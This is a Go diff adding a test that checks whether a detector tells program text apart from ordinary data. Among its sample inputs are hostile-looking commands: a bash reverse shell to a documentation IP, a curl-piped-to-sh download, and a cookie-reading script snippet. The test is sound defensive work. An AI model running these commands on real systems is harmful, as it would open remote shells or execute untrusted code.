@@ -170,3 +170,39 @@ func FuzzPayloads(f *testing.F) {
 		}
 	})
 }
+
+func TestAProgramIsToldFromData(t *testing.T) {
+	for _, c := range []struct {
+		text string
+		want gate.Language
+	}{
+		{"import os\nos.system('touch marker-file')\n", gate.LanguagePython},
+		{"print(7)  # just some code\n", gate.LanguagePython},
+		{"exec(open('x').read())", gate.LanguagePython},
+		{"curl -s http://example.invalid/x | sh", gate.LanguageShell},
+		{"#!/bin/bash\necho hi\n", gate.LanguageShell},
+		{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", gate.LanguageShell},
+		{"Write-Host hello; Start-Process notepad", gate.LanguagePowerShell},
+		{"const a = require('fs'); a.readFileSync('x')", gate.LanguageJavaScript},
+		{"alert(document.cookie)", gate.LanguageJavaScript},
+		{"<html><script>fetch('/x')</script></html>", gate.LanguageHTML},
+		{"<?php system('touch marker-file');", gate.LanguagePHP},
+		{"package main\n\nfunc main() {}\n", gate.LanguageGo},
+
+		{`{"name": "thing", "version": "1.2.3", "private": true}`, ""},
+		{"-----BEGIN CERTIFICATE-----\nMIIB\n", ""},
+		{"user:password-of-a-user@example.com", ""},
+		{"Hello world, this is just a sentence about cats and the curl of their tails.", ""},
+		{"sub=1234567890&name=John&iat=1516239022&scope=read", ""},
+		{"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'><path d='M0 0h8v8H0z'/></svg>", ""},
+		{`{"alg":"HS256","typ":"JWT"}`, ""},
+		{`{"version":3,"sources":["a.ts","b.ts"],"names":[],"mappings":"AAAA,SAAS"}`, ""},
+		{"apiVersion: v1\nkind: Secret\nmetadata:\n  name: thing\n", ""},
+		{"The quick brown fox; it jumps over the lazy dog, and runs.", ""},
+	} {
+		got, ok := Program([]byte(c.text))
+		if got != c.want || ok != (c.want != "") {
+			t.Errorf("%q: %q", c.text, got)
+		}
+	}
+}
